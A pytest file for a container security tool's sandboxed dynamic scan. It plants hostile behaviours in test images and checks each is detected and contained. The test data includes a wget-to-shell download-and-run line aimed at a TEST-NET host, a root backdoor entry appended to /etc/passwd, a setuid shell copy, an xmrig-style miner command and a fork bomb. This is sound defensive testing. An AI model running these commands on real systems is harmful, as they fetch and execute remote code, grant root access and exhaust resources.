"""The dynamic scan end to end, on real images built from Debian's busybox-static package: each
planted behaviour is reported with its rule and evidence, a benign image gives no finding, the fork
bomb and the endless process are stopped by the limits, the environment inside holds nothing of the
outside, and after every run nothing of the sandbox is left and no host file changed
(`host_untouched`). Every planted network behaviour targets 192.0.2.1 (TEST-NET-1) or a `.invalid`
name, inside the sandbox's empty network namespace (`loopback_only` checks it before each run).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sandbox.conftest import check_loopback_only

from ci_security.sandbox.dynamic import SandboxOptions
from ci_security.scan import Checked, ScanOptions, check

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("host_untouched")]


def run(
    image: Path,
    tmp_path: Path,
    loopback_only: list[list[str]],
    *,
    duration: float = 10,
    policy: str = "",
    limit: tuple[str, str] | None = None,
) -> Checked:
    policy_path = None
    if policy:
        policy_path = tmp_path / "policy.yml"
        policy_path.write_text(policy)
    options = ScanOptions(
        image=f"docker-archive:{image}",
        vulns=False,
        repo_root=tmp_path,
        policy_path=policy_path,
        sandbox=SandboxOptions(duration=duration, on_isolated=check_loopback_only(loopback_only)),
        limits=(limit,) if limit else (),
    )
    checked = check(options)
    assert loopback_only == [["lo"]], "the network namespace was checked once, before the entrypoint ran"
    return checked


def rules(checked: Checked) -> set[str]:
    return {f.rule_id for f in checked.result.runtime}


def finding(checked: Checked, rule_id: str):
    found = [f for f in checked.result.runtime if f.rule_id == rule_id]
    assert found, f"no {rule_id} in {rules(checked)}"
    return found[0]


def test_benign_image_gives_no_finding_and_its_environment_is_only_its_own(
    script_image, tmp_path, loopback_only, monkeypatch
):
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_outside-secret-0123456789")
    monkeypatch.setenv("CI_SECURITY_GITLAB_TOKEN", "glpat-outside-secret")
    monkeypatch.setenv("OUTSIDE_MARKER", "outside-value-4711")
    image = script_image("echo hello from the image\nenv\nexit 0\n")

    checked = run(image, tmp_path, loopback_only)

    sandbox = checked.result.sandbox
    assert sandbox is not None
    assert checked.result.runtime == ()
    assert (sandbox.end, sandbox.exit_code, sandbox.signal) == ("exited", 0, None)
    assert sandbox.stdout.startswith("hello from the image\n")
    inside = dict(line.split("=", 1) for line in sandbox.stdout.splitlines()[1:] if "=" in line)
    # The image's own variables, what a runtime sets, and nothing of the environment outside.
    assert set(inside) <= {"PATH", "APP_ENV", "HOSTNAME", "HOME", "PWD", "SHLVL"}
    assert inside["APP_ENV"] == "sandbox-test"
    assert "outside" not in sandbox.stdout
    assert checked.decision.passed
    steps = {step.name: step.status for step in sandbox.isolation}
    for name in ("user namespace", "mount namespace", "pid namespace", "network namespace", "network"):
        assert steps[name] == "ok"


def test_connect_to_test_net_address(script_image, tmp_path, loopback_only):
    checked = run(script_image("telnet 192.0.2.1 4444\nexit 0\n"), tmp_path, loopback_only)
    hit = finding(checked, "RT001")
    assert hit.subject == "192.0.2.1:4444"
    event = hit.evidence[0]
    assert (event.kind, event.address, event.port, event.result) == (
        "connect",
        "192.0.2.1",
        4444,
        "ENETUNREACH",
    )
    assert event.argv[:1] == ("telnet",) and event.pid is not None
    assert not checked.decision.passed  # HIGH fails the default policy


def test_dns_lookup_of_a_name_that_does_not_resolve(script_image, tmp_path, loopback_only):
    checked = run(script_image("nslookup ci-security-test.invalid\nexit 0\n"), tmp_path, loopback_only)
    hit = finding(checked, "RT002")
    event = hit.evidence[0]
    assert event.port == 53
    assert "ci-security-test.invalid" in event.argv
    assert "RT001" not in rules(checked)  # DNS is its own rule


def test_shell_run_on_a_downloaded_script(script_image, tmp_path, loopback_only):
    script = 'sh -c "$(wget -q -O - http://192.0.2.1:4444/install.sh)"\nexit 0\n'
    checked = run(script_image(script), tmp_path, loopback_only)
    chain = finding(checked, "RT005")
    assert chain.subject == "http://192.0.2.1:4444/install.sh"
    downloader, shell = chain.evidence
    assert downloader.argv[0] == "wget" and shell.argv[:2] == ("sh", "-c")
    assert {"RT001", "RT004"} <= rules(checked)
    assert finding(checked, "RT001").subject == "192.0.2.1:4444"


def test_write_to_etc_passwd(script_image, tmp_path, loopback_only):
    checked = run(
        script_image("echo 'intruder:x:0:0::/:/bin/sh' >> /etc/passwd\nexit 0\n"), tmp_path, loopback_only
    )
    hit = finding(checked, "RT007")
    assert hit.subject == "/etc/passwd"
    assert hit.severity.value == "HIGH"
    assert hit.evidence[0].result == "EROFS"  # the image's filesystem is read-only in the sandbox


def test_setuid_chmod(script_image, tmp_path, loopback_only):
    checked = run(
        script_image("cp /bin/busybox /tmp/ci-security-planted-sh\nchmod u+s /tmp/ci-security-planted-sh\n"),
        tmp_path,
        loopback_only,
    )
    hit = finding(checked, "RT008")
    assert hit.subject == "/tmp/ci-security-planted-sh"
    assert hit.evidence[0].mode == 0o4755
    assert not Path("/tmp/ci-security-planted-sh").exists()  # the sandbox's /tmp is its own


def test_miner_like_command_line(script_image, tmp_path, loopback_only):
    script = (
        "cp /bin/busybox /tmp/xmrig\n"
        "/tmp/xmrig --donate-level=1 -o stratum+tcp://192.0.2.1:3333 -u wallet\n"
        "exit 0\n"
    )
    checked = run(script_image(script), tmp_path, loopback_only)
    hit = finding(checked, "RT006")
    assert hit.severity.value == "CRITICAL"
    assert hit.evidence[0].path == "/tmp/xmrig"
    assert "stratum+tcp://192.0.2.1:3333" in hit.evidence[0].argv


def test_privileged_calls_are_refused_and_reported(script_image, tmp_path, loopback_only):
    checked = run(
        script_image("mount -t tmpfs none /mnt\nunshare -U true\nexit 0\n"), tmp_path, loopback_only
    )
    hit_subjects = {f.subject for f in checked.result.runtime if f.rule_id == "RT009"}
    assert any(subject.startswith("mount") for subject in hit_subjects)
    assert any("CLONE_NEWUSER" in subject for subject in hit_subjects)


def test_fork_bomb_is_stopped_by_the_process_limit(script_image, tmp_path, loopback_only):
    bomb = "bomb() { bomb | bomb & }\nbomb\nsleep 300\n"
    checked = run(script_image(bomb), tmp_path, loopback_only, duration=3, limit=("sandbox-processes", "40"))
    sandbox = checked.result.sandbox
    hit = finding(checked, "RT010")
    assert hit.count >= 1 and hit.evidence[0].result == "EAGAIN"
    assert sandbox.end == "duration"
    assert sandbox.alive_at_end <= 40  # never more than the limit at once


def test_endless_process_is_stopped_at_the_duration(script_image, tmp_path, loopback_only):
    policy = "runtime:\n  expect: exit\n"
    checked = run(script_image("sleep 987654\n"), tmp_path, loopback_only, duration=2, policy=policy)
    sandbox = checked.result.sandbox
    assert sandbox.end == "duration"
    assert sandbox.exit_code is None
    hit = finding(checked, "RT011")
    assert any(e.kind == "alive" and "987654" in e.argv for e in hit.evidence)
    assert rules(checked) == {"RT011"}


def test_entrypoint_that_leaves_a_daemon_behind(script_image, tmp_path, loopback_only):
    policy = "runtime:\n  expect: exit\n"
    checked = run(script_image("sleep 876543 &\necho done\n"), tmp_path, loopback_only, policy=policy)
    assert checked.result.sandbox.end == "exited"
    hit = finding(checked, "RT011")
    assert hit.subject == "left running"


def test_events_log_and_json_report_from_the_command_line(script_image, tmp_path):
    from click.testing import CliRunner

    from ci_security.cli import main

    # Through the command line no test hook checks the network namespace before the run, so nothing
    # here touches the network (the network behaviours are planted through `run` above).
    image = script_image("echo 'intruder:x:0:0::/:/bin/sh' >> /etc/passwd\nexit 0\n")
    result = CliRunner().invoke(
        main,
        [
            "sandbox",
            "--image",
            f"docker-archive:{image}",
            "--no-vulns",
            "--repo-root",
            str(tmp_path),
            "--duration",
            "10s",
            "-o",
            f"events={tmp_path / 'events.jsonl'}",
            "-o",
            f"json={tmp_path / 'report.json'}",
        ],
    )
    assert result.exit_code == 1, result.output  # RT007 on /etc/passwd is HIGH: the default policy fails
    lines = (tmp_path / "events.jsonl").read_text().splitlines()
    events = [json.loads(line) for line in lines]
    assert [e["time"] for e in events] == sorted(e["time"] for e in events)
    write = next(e for e in events if e["kind"] == "file_write")
    assert (write["path"], write["syscall"], write["result"]) == ("/etc/passwd", "openat", "EROFS")
    report = json.loads((tmp_path / "report.json").read_text())
    assert report["sandbox"]["end"] == "exited"
    assert [r["rule_id"] for r in report["runtime"]] == ["RT007"]
    assert report["runtime"][0]["evidence"][0]["path"] == "/etc/passwd"
    assert report["policy"]["violations"][0]["kind"] == "runtime"


def test_the_ci_step_with_dynamic_true(script_image, tmp_path, monkeypatch):
    """`dynamic: true` in a GitHub job: CI_SECURITY_DYNAMIC runs the sandbox; the event log is written
    beside the reports, the job summary has the dynamic-scan section, the runtime finding is annotated
    at the Dockerfile's ENTRYPOINT line, and the step's outputs name the event log."""
    from click.testing import CliRunner

    from ci_security.cli import main

    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "Dockerfile").write_text(
        'FROM scratch\nCOPY rootfs /\nENTRYPOINT ["/bin/sh", "/app/run.sh"]\nUSER 1000\n'
    )
    image = script_image("echo 'intruder:x:0:0::/:/bin/sh' >> /etc/passwd\nexit 0\n")  # no network here
    env = {
        "GITLAB_CI": None,
        "GITHUB_ACTIONS": "true",
        "GITHUB_EVENT_NAME": "push",
        "GITHUB_REPOSITORY": "octo-org/app",
        "GITHUB_SHA": "f" * 40,
        "GITHUB_OUTPUT": str(tmp_path / "output"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
        "CI_SECURITY_DYNAMIC": "true",
        "CI_SECURITY_SANDBOX_DURATION": "20s",
    }
    args = [
        "ci",
        "--image",
        f"docker-archive:{image}",
        "--no-vulns",
        "--no-db-update",
        "--repo-root",
        str(repo),
        "--manifests",
        str(repo / "Dockerfile"),
        "--report-dir",
        str(tmp_path / "out"),
    ]
    result = CliRunner().invoke(main, args, env=env)
    assert result.exit_code == 1, result.output
    events = (tmp_path / "out" / "ci-security-events.jsonl").read_text().splitlines()
    assert any(json.loads(line)["kind"] == "file_write" for line in events)
    assert "### Dynamic scan" in (tmp_path / "summary.md").read_text()
    outputs = (tmp_path / "output").read_text()
    assert "events-file" in outputs and "runtime" in outputs
    annotation = next(
        line for line in result.stdout.splitlines() if line.startswith("::error") and "RT007" in line
    )
    assert "file=Dockerfile" in annotation and "line=3" in annotation
